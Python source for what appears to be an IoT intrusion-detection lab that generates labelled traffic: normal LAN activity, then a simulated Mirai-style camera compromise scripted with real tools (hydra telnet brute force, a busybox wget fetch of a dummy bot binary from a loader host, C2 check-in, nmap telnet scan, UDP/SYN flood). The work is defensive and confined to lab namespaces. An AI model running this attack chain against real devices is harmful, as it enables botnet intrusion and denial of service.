"""The infection scenarios: IoT devices living normally, then one compromised the way IoT botnets do it.

``infection-mirai`` runs a LAN's everyday traffic (sensors and the hub over MQTT, CoAP and HTTP polling, DNS
and NTP, the camera calling its cloud by name for its update manifest) for a normal phase; then an outside
host guesses the camera's telnet password with Mirai's credential list until it gets in (the list holds the
camera's own password, so it always does); the camera fetches a bot binary by wget from the loader (an ELF
header and random bytes, written to /dev/null: nothing runs); it calls its controller and stays on it; it
scans for more telnet devices (the LAN and a /24 of the stand-in Internet); it floods a host of the stand-in
Internet on command; the everyday traffic goes on throughout. Each phase is labelled with its times and the
compromised device (``phases/infection-mirai.csv``), and its flows by flow rules. ``infection-normal`` is the
same LAN's everyday traffic alone, to learn a baseline from a separate run.

Both run on LAN 1 so that the same devices (addresses, MACs) live in both. Everything stays inside the lab's
namespaces; every program is bounded by its own count or deadline and by the lab's timeouts.
"""

from __future__ import annotations

import subprocess
import time
from typing import Any

from iotscan.errors import CaptureError
from iotscan.lab.netns import Host
from iotscan.lab.scenario import FlowRule, ScenarioContext, scenario
from iotscan.lab.scenarios import _background, _flood, _wordlist
from iotscan.lab.services import CLOUD_NAMES

TCP, UDP = 6, 17
SEGMENT = "lan1"
NORMAL_S = 150  # the normal phase, at --duration-scale 1


def _normal_life(ctx: ScenarioContext, seconds: float) -> list[subprocess.Popen[Any]]:
    """The LAN's everyday traffic, and the camera's calls home (its cloud by name, its update manifest)."""
    procs = _background(ctx, seconds)
    name = "ota.camera-cloud.net"
    assert name in CLOUD_NAMES  # the lab's DNS answers it with the cloud's address
    procs.append(ctx.agent("cam", "cloud-checkin", "--dns", ctx.ip("cloud"), "--server", ctx.ip("cloud"),
                           "--name", name, "--interval", f"{ctx.rng.uniform(8, 15):.1f}", "--jitter", "0.3",
                           "--count", int(seconds / 6) + 1, "--deadline", f"{seconds:.1f}"))
    ctx.notes.append(f"camera {ctx.ip('cam')} checks {name} ({ctx.ip('cloud')}) for updates")
    return procs


@scenario("infection-normal", "benign", "", NORMAL_S, ["mosquitto_pub", "mosquitto_sub", "coap-client-notls"],
          segment=SEGMENT, on_request=True)
def infection_normal(ctx: ScenarioContext) -> None:
    """The everyday traffic of LAN 1 alone (MQTT, CoAP, HTTP polling, DNS, NTP, the camera calling its cloud):
    the normal-only run to learn a baseline from."""
    seconds = ctx.secs(NORMAL_S, 20)
    started = time.time()
    ctx.wait(_normal_life(ctx, seconds), seconds + 15)
    ctx.phase("normal", "", ctx.host("cam"), started)


@scenario("infection-mirai", "benign", "", NORMAL_S + 80,
          ["mosquitto_pub", "mosquitto_sub", "coap-client-notls", "hydra", "busybox", "nmap", "hping3"],
          mixed=True, segment=SEGMENT, on_request=True)
def infection_mirai(ctx: ScenarioContext) -> None:
    """LAN 1's everyday traffic, then its camera compromised as IoT botnets do it: telnet password guessing that
    succeeds, a loader fetched by wget, the controller called, a telnet scan, a flood on command. Labelled per
    phase (with times) and per flow."""
    normal = ctx.secs(NORMAL_S, 20)
    attack = 80.0  # the attack's phases keep their length whatever the scale (tools need their time)
    cam, attacker, cnc, victim = ctx.host("cam"), ctx.host("atk1"), ctx.host("cnc"), ctx.host("atk2")
    ctx.involve(cam, attacker, cnc, victim)
    started = time.time()
    background = _normal_life(ctx, normal + attack)
    # the loader and the controller listen from the start (on the stand-in Internet, never contacted before)
    loader = ctx.agent("cnc", "http-panel", "--bind", cnc.ip, "--port", 80, "--firmware", "--server", "nginx",
                       "--deadline", f"{normal + attack + 10:.0f}", seed=True)
    c2_port = ctx.rng.choice([23, 48101, 6667])
    c2_mode = "irc" if c2_port == 6667 else "tcp"
    server = ctx.agent("cnc", "c2-server", "--bind", cnc.ip, "--port", c2_port, "--mode", c2_mode,
                       "--interval", 5, "--lan", ctx.network, "--deadline", f"{normal + attack + 10:.0f}")
    ctx.sleep(normal)
    ctx.phase("normal", "", cam, started)

    # 1. password guessing over telnet until it succeeds (the camera's password is in the list)
    t = time.time()
    user, password = ctx.services.device(ctx.segment, "cam").telnet
    words = _wordlist(ctx)
    guesses = words.read_text().splitlines()
    right = f"{user}:{password}"
    guesses = [*[g for g in guesses if g != right][:ctx.rng.randint(12, 30)], right]
    words.write_text("".join(f"{g}\n" for g in guesses))
    ctx.attack_rules(attacker, cam, "bruteforce", TCP, 23)
    ctx.run(attacker.role, ["hydra", "-C", words, "-t", 4, "-f", "-I", "-s", 23, ctx.lab.require_target(cam.ip),
                            "telnet"], 60)
    ctx.phase("bruteforce", "bruteforce", cam, t, f"telnet {attacker.ip} -> {cam.ip}:23, {len(guesses)} guesses, "
                                                  f"the last right ({user})")

    # 2. the loader: the camera fetches the bot by wget from the loader's address (never a name)
    t = time.time()
    ctx.attack_rules(cam, cnc, "c2", TCP, 80)
    arch = ctx.rng.choice(["arm7", "mips", "mpsl"])
    # no -T: Debian 12's busybox-static 1.35 wget crashes (SIGSEGV) with it before sending anything; the 20 s
    # bound is the lab's. A loader that fetched nothing would leave the phase without a flow: fail the run.
    code = ctx.run("cam", ["busybox", "wget", "-q", "-O", "/dev/null",
                           f"http://{ctx.lab.require_target(cnc.ip)}/bins/mirai.{arch}"], 20)
    if code != 0:
        raise CaptureError(f"the loader step failed: busybox wget on the camera exited with {code}")
    ctx.phase("loader", "c2", cam, t, f"wget http://{cnc.ip}/bins/mirai.{arch}")

    # 3. the bot calls its controller, and stays on it
    t = time.time()
    ctx.attack_rules(cam, cnc, "c2", TCP, c2_port)
    bot = ctx.agent("cam", "c2-bot", "--server", ctx.lab.require_target(cnc.ip), "--port", c2_port, "--mode", c2_mode,
                    "--bot-id", f"{ctx.rng.randrange(16**6):06x}", "--interval", 5, "--count", 40,
                    "--deadline", f"{attack:.0f}")
    ctx.sleep(8)
    ctx.phase("c2", "c2", cam, t, f"{c2_mode} controller {cnc.ip}:{c2_port}")

    # 4. the bot scans for more telnet devices: its LAN, then a /24 of the stand-in Internet
    t = time.time()
    wan_block = f"{victim.ip}".rsplit(".", 1)[0] + ".0/24"
    targets = [ctx.network, ctx.lab.require_target(wan_block)]
    ctx.rules.append(_rule(cam, None, TCP, 23, "scan"))
    ctx.rules.append(_rule(cam, None, TCP, 2323, "scan"))
    ctx.run("cam", ["nmap", "-n", "-Pn", "-sS", "-p", "23,2323", "--randomize-hosts", "--max-retries", "0",
                    "--max-rate", ctx.rng.choice([100, 200, 400]), *targets], 30)
    ctx.phase("scan", "scan", cam, t, f"SYN probes to 23 and 2323 of {', '.join(targets)}")

    # 5. a flood on command, at a host of the stand-in Internet
    t = time.time()
    ctx.attack_rules(cam, victim, "ddos")
    kind = ctx.rng.choice(["udp", "syn"])
    flood = _flood(ctx, cam, victim, kind, ctx.rng.choice([500, 1000, 1500]), ctx.rng.uniform(5, 8),
                   port=ctx.rng.choice([80, 53, 443]))
    ctx.wait([flood], 20)
    ctx.phase("flood", "ddos", cam, t, f"{kind} flood {cam.ip} -> {victim.ip}")
    ctx.notes.append(f"camera {cam.ip} compromised by {attacker.ip} (telnet), loader and controller {cnc.ip}, "
                     f"flood at {victim.ip}; phases in phases/infection-mirai.csv")
    ctx.wait([bot], 5)
    ctx.wait(background, 10)
    for proc in (loader, server):
        ctx.lab.stop(proc)


def _rule(src: Host, dst: Host | None, protocol: int | None, port: int | None, family: str) -> FlowRule:
    return FlowRule(str(src.ip), str(dst.ip) if dst is not None else "", protocol, port, "attack", family)
